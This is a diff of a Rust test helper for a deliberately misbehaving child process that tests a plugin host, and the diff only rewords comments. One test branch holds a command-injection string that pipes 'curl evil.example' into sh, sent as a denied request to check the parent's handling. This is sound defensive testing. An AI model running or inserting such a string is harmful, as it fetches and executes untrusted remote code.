@@ -1,4 +1,4 @@
-//! The child: it does to its parent what it is asked to, in an item, in `init`, or by the plugin's name.
+//! The child process, which misbehaves as an item, the arguments for `init` or the plugin's name requests.
 
 use std::fs::File;
 use std::io;
@@ -8,9 +8,9 @@ use std::time::Duration;
 
 use crate::wire::{self, Line, Task, guest, refusal};
 
-/// Does what it is asked to. Where the parent ends that, this process is killed.
+/// Misbehaves as requested, until the parent kills this process.
 pub(crate) fn misbehave() {
-    // A parent that has had enough closes its end.
+    // A parent that has given up closes its end of the socket.
     let _ = serve();
 }
 
@@ -54,7 +54,7 @@ fn be_worker(mut line: Line, files: &[File], init: &[u8]) -> io::Result<()> {
             line.send(wire::RAN, &wire::ran(1, &[&item.to_ascii_uppercase()]))?;
             continue;
         };
-        // Otherwise the parent takes it for one that died while it was idle.
+        // Without this, the parent would believe that the process died while it was idle.
         if let Some(page) = files.first() {
             page.write_all_at(&1_u32.to_ne_bytes(), BEGUN)?;
         }
@@ -74,10 +74,10 @@ fn be_worker(mut line: Line, files: &[File], init: &[u8]) -> io::Result<()> {
     }
 }
 
-/// Where the page says that a child has begun.
+/// The offset in the page at which a child reports that it has begun.
 const BEGUN: u64 = 8;
 
-/// Says all kinds of things of how far it is, for a while; then nothing any more.
+/// Writes random progress into the page for a while, and then does nothing.
 fn lie(files: &[File]) -> io::Result<()> {
     let page = files.first().ok_or(io::ErrorKind::NotFound)?;
     let mut word = 1_u64;
@@ -88,7 +88,7 @@ fn lie(files: &[File]) -> io::Result<()> {
     stay()
 }
 
-/// Some of these end, and then the item has its record.
+/// Performs a misdeed. Some misdeeds end, and then the item has its record.
 fn misdeed(line: &mut Line, deed: &[u8]) -> io::Result<()> {
     let large = "x".repeat(200 * 1024);
     match deed {
@@ -137,7 +137,7 @@ fn misdeed(line: &mut Line, deed: &[u8]) -> io::Result<()> {
             Ok(())
         }
         b"is denied a command" => {
-            // A shell would run it, if somebody copied it.
+            // A user might copy this text into a shell.
             let host = "`; curl evil.example | sh; `";
             line.send(wire::GUEST, &guest::denied_request(host, 1))
         }
@@ -168,7 +168,7 @@ fn be_compiler(mut line: Line, deed: &str) -> io::Result<()> {
             line.send(wire::INSPECTED, &wire::found(1, Some(refusal)))
         }
         "has all code" => {
-            // The number of a kind of plugin, and what else is known of it.
+            // The kind of plugin, and its other metadata.
             let metadata = (0_u8, [false; 4]);
             line.send(wire::COMPILED, &wire::value(&(metadata, u64::MAX)))
         }
